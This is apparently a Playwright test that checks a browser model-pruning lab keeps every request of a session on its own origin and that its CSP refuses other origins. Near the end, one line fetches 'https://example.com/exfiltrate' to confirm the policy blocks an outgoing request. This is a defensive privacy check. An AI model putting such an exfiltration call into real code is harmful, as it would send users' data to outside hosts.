// Private by construction: every request of the page and its workers through a whole session (load the demo
// model, prune with evaluation + speed + generation, evaluate, generate, export the pruned model) stays on the
// page's origin; the built page carries a CSP meta with default-src 'self', and the browser refuses a fetch
// to another origin with a securitypolicyviolation (there is no network here, so a mere failure proves nothing).

import { expect, test } from '@playwright/test';
import { fillQuickPrune, foreignRequests, openLab, runEvaluation, waitForPruneDone } from './helpers';

interface Violation {
  blockedURI: string;
  effectiveDirective: string;
  fetchRejected: boolean;
}

test('a whole session makes no request that leaves the origin, and the CSP refuses other origins', async ({ page, baseURL }) => {
  // Blocked requests never reach Playwright's request events, so the page's CSP violations are recorded too.
  await page.addInitScript(() => {
    const seen: string[] = [];
    Object.assign(window, { __cspViolations: seen });
    document.addEventListener('securitypolicyviolation', (event) => seen.push(`${event.effectiveDirective} ${event.blockedURI}`));
  });
  const lab = await openLab(page);
  // The worker's own requests are recorded too: the onnxruntime wasm is fetched inside the lab worker.
  expect(lab.requests.some((url) => url.includes('/ort/') && url.endsWith('.wasm'))).toBe(true);
  expect(lab.requests.some((url) => url.includes('/models/stories260K/'))).toBe(true);

  await fillQuickPrune(page, { methodId: 'drop-blocks', params: { blocks: '2' }, speed: true, generate: true });
  await page.getByTestId('prune-run').click();
  await waitForPruneDone(page);
  await expect(page.getByTestId('prune-ppl-after')).toBeVisible();

  await runEvaluation(page, { maxWindows: '1', seqLen: '64' });
  await page.getByTestId('gen-max-tokens').fill('4');
  await page.getByTestId('gen-run').click();
  await expect(page.getByTestId('gen-status')).toHaveAttribute('data-status', 'done', { timeout: 120_000 });
  await expect(page.getByTestId('gen-output')).toContainText('Once upon a time');

  // Export: without a folder picker the pruned model arrives as one zip through a blob: URL.
  await page.evaluate(() => Object.assign(window, { showDirectoryPicker: undefined }));
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('prune-download').click()]);
  expect(download.suggestedFilename()).toBe('pruned-model.zip');
  expect(download.url()).toMatch(/^blob:/);
  await expect(page.getByTestId('export-status')).toHaveAttribute('data-status', 'done');

  // The CSP is in the built page and allows only our origin.
  const csp = (await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')) ?? '';
  expect(csp).toContain("default-src 'self'");
  expect(csp).toMatch(/connect-src 'self'[^;]*;/);
  expect(csp).not.toMatch(/https?:|\*/);

  // Nothing the app did during the session was refused by the policy either.
  expect(await page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations)).toEqual([]);

  // A fetch to another origin is refused by the policy (the violation event names the blocked URL).
  const violation = await page.evaluate(async (): Promise<Violation> => {
    const seen = new Promise<SecurityPolicyViolationEvent>((resolve) => document.addEventListener('securitypolicyviolation', resolve, { once: true }));
    const fetchRejected = await fetch('https://example.com/exfiltrate').then(() => false, () => true);
    const event = await seen;
    return { blockedURI: event.blockedURI, effectiveDirective: event.effectiveDirective, fetchRejected };
  });
  expect(violation).toEqual({ blockedURI: 'https://example.com/exfiltrate', effectiveDirective: 'connect-src', fetchRejected: true });

  expect(foreignRequests(lab.requests, baseURL!)).toEqual([]);
  console.log(`privacy: ${lab.requests.length} requests, all on ${new URL(baseURL!).origin} (or blob:/data:)`);
});
